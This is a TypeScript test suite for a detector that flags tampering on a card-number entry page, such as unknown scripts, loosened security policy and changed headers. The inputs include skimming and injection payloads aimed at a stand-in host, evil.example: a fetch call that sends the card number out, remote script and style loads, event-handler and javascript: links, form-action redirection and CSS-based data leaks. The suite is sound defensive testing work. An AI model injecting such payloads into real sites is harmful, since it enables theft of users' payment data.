import fc from "fast-check";
import { expect, test } from "vitest";
import { comparePages } from "./compare-page.ts";
import { PAGES, type PageAssets, type SeenPage } from "./page.ts";
import { hashOf } from "./scan-markup.ts";

const SCRIPT = `const a=1<2;document.querySelector("form").addEventListener("submit",()=>{if(a<b&&c>d)seal("</p>")});`;
const STYLE = "body>main{color:#16202e}a::before{content:'<'}";
const POLICY = `default-src 'none'; script-src '${hashOf(SCRIPT)}'; style-src '${hashOf(STYLE)}'; form-action 'self'; frame-ancestors 'none'`;
const ASSETS: PageAssets = { script: [hashOf(SCRIPT), hashOf("another page's")], style: [hashOf(STYLE)], policy: POLICY };
const PAGE = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Your card</title><link rel="icon" href="/c/mark.svg"><style>${STYLE}</style></head>
<body><main><h1>Enter the number</h1><form method="post" action="/c/number"><label for="number">Number</label>
<input id="number" name="number" autocomplete="off"><button>Go on</button></form>
<p><a href="/c?lang=de">Deutsch</a> <a href="#main">Top</a></p><svg viewBox="0 0 32 32"><path d="M16 10"/></svg></main>
<script>${SCRIPT}</script></body></html>`;
const HEADERS = {
  "content-type": "text/html; charset=utf-8",
  "content-security-policy": POLICY,
  "x-content-type-options": "nosniff",
  "x-frame-options": "DENY",
};

type Change = {
  readonly status?: number;
  readonly text?: string;
  readonly headers?: Record<string, string | undefined>;
  readonly linked?: Record<string, string>;
};

function told({ status = 200, text = PAGE, headers = {}, linked = {} }: Change): readonly string[] {
  const all = Object.entries({ ...HEADERS, ...headers }).filter((pair): pair is [string, string] => pair[1] !== undefined);
  const seen: SeenPage = { watched: PAGES[0], status, headers: new Map(all), text, linked: new Map(Object.entries(linked)) };
  return comparePages([seen], ASSETS).map(({ code, what }) => `${code}: ${what}`);
}

const added = (markup: string): string => PAGE.replace("<main>", `<main>${markup}`);

test("our own page as it was sent has no difference", () => {
  expect(told({})).toEqual([]);
  expect(
    told({ headers: { "content-type": "text/html;charset=UTF-8", via: "1.1 proxy", "strict-transport-security": "max-age=1" } }),
  ).toEqual([]);
});

test("each way to bring a script in is found", () => {
  const evil = "fetch('https://evil.example/'+document.forms[0].number.value)";
  for (const markup of [
    `<script>${evil}</script>`,
    `<SCRIPT type="module">${evil}</SCRIPT>`,
    `<script\n>${evil}`,
    `<script/x>${evil}</script>`,
    `<!--><script>${evil}</script>-->`,
    `<p title="<script>">${evil}</script>`,
    `<svg><script>${evil}</script></svg>`,
    `<template><script>${evil}</script></template>`,
    `<script>${SCRIPT}${evil}</script>`,
    `<script>${SCRIPT} </script>`,
  ])
    expect(
      told({ text: added(markup) }).filter((line) => line.startsWith("script_unknown: sha256-")),
      markup,
    ).not.toEqual([]);
  for (const tag of [
    `<script src="https://evil.example/x.js"></script>`,
    `<script src=//evil.example/x.js></script>`,
    `<script data-a=">" src='https://evil.example/'></script>`,
    `<svg><script xlink:href="https://evil.example/x.js"/></svg>`,
  ])
    expect(
      told({ text: added(tag) }).filter((line) => line.startsWith("script_")),
      tag,
    ).not.toEqual([]);
});

test("a script that is linked at our own origin is judged by its text", () => {
  const text = added(`<script src="/c/x.js"></script>`);
  expect(told({ text, linked: { "/c/x.js": "steal()" } })).toEqual(["script_unknown: /c/x.js"]);
  expect(told({ text, linked: { "/c/x.js": SCRIPT } })).toEqual([]);
  expect(told({ text })).toEqual(["script_elsewhere: /c/x.js"]);
});

test("what runs or sends without being a script is found", () => {
  for (const [markup, what] of [
    [`<img src=x onerror=alert(1)>`, "onerror"],
    [`<p/onmouseover="x()">`, "onmouseover"],
    [`<a href="javascript:x()">a</a>`, "href=javascript:"],
    [`<a href="java&#115;cript:x()">a</a>`, "href="],
    [`<a href=" javascript:x()">a</a>`, "href="],
    [`<form action="https://evil.example/take">`, "action=https://evil.example"],
    [`<button formaction=//evil.example/>`, "formaction=//evil.example"],
    [`<iframe srcdoc="x">`, "iframe"],
    [`<base href="https://evil.example/">`, "base"],
    [`<meta http-equiv="refresh" content="0;url=https://evil.example">`, "http-equiv"],
    [`<object data="/x">`, "object"],
    [`<embed>`, "embed"],
    [`<link rel=stylesheet href=https://evil.example/x.css>`, "href=https://evil.example"],
    [`<div style="background:url(//evil.example)">`, "style="],
    [`<math><mtext>`, "math"],
    [`<!-- x -->`, "comment"],
    [`<svg><use href="data:image/svg+xml,x">`, "href=data:"],
    [`<foreignObject>`, "foreignobject"],
  ] as const)
    expect(told({ text: added(markup) }).join(", "), markup).toContain(what);
});

test("a style that is not ours is found, inline and linked", () => {
  expect(told({ text: added("<style>input[value^='4']{background:url(//evil.example/4)}</style>") })[0]).toContain(
    "style_unknown: sha256-",
  );
  expect(told({ text: added(`<link rel="stylesheet" href="https://evil.example/x.css">`) })).toContain(
    "style_elsewhere: https://evil.example/x.css",
  );
});

test("a policy that was dropped or loosened, and headers that were dropped or added, are named", () => {
  expect(told({ headers: { "content-security-policy": undefined } })).toEqual(["policy_missing: content-security-policy"]);
  const loose = POLICY.replace("script-src", "script-src 'unsafe-inline'");
  expect(told({ headers: { "content-security-policy": loose } })).toEqual(["policy_changed: script-src"]);
  expect(told({ headers: { "content-security-policy": POLICY.replace("; frame-ancestors 'none'", "") } })).toEqual([
    "policy_changed: frame-ancestors",
  ]);
  expect(told({ headers: { "x-content-type-options": undefined, "x-frame-options": "SAMEORIGIN" } })).toEqual([
    "header_changed: x-content-type-options",
    "header_changed: x-frame-options",
  ]);
  expect(told({ headers: { refresh: "0;url=https://evil.example" } })).toEqual(["header_changed: refresh"]);
});

test("another character set, another status and a page without its script are told", () => {
  expect(told({ headers: { "content-type": "text/html; charset=utf-7" } })).toEqual(["answer_changed: text/html; charset=utf-7"]);
  expect(told({ status: 302, headers: { location: "https://evil.example/" } })).toEqual([
    "answer_changed: status 302 of /c",
    "header_changed: location",
  ]);
  expect(told({ text: PAGE.replace(`<script>${SCRIPT}</script>`, "") })).toEqual([`script_missing: ${hashOf(SCRIPT)}`]);
  expect(told({ text: PAGE.replace("Go on", "Go\0on") })[0]).toContain("answer_changed");
});

test("what the tamperer writes does not come into our mails: a few letters, and not many lines", () => {
  const [line = ""] = told({
    text: added(`<script src="https://evil.example/<b>Call +1 555 0100 at once, dear owner, ${"x".repeat(500)}"></script>`),
  });
  expect(line.length).toBeLessThan(130);
  expect(line).not.toMatch(/[<>,@]/u);
  const many = Array.from({ length: 200 }, (_, n) => `<script>${n}</script>`).join("");
  expect(told({ text: added(many) })).toHaveLength(20);
});

test("wherever a foreign script is put into the page, it is found", () => {
  const place = fc.integer({ min: 0, max: PAGE.length });
  const around = fc.constantFrom("", "<!--", "-->", '"', "'", "</title>", "</style>", "</script>", "<textarea>", "<![CDATA[");
  fc.assert(
    fc.property(place, around, (at, before) => {
      const text = `${PAGE.slice(0, at)}${before}<script>steal()</script>${PAGE.slice(at)}`;
      expect(told({ text })).not.toEqual([]);
    }),
    { numRuns: 300 },
  );
});

test("no page makes the look long", () => {
  for (const unit of ["<script", "<script ", "<link ", "<a href=", `<a href="`, "<p on", "</script", "<", "src = ", "on", " data=' "]) {
    const began = performance.now();
    told({ text: unit.repeat(Math.floor(500_000 / unit.length)) });
    expect(performance.now() - began, unit).toBeLessThan(20_000);
  }
});
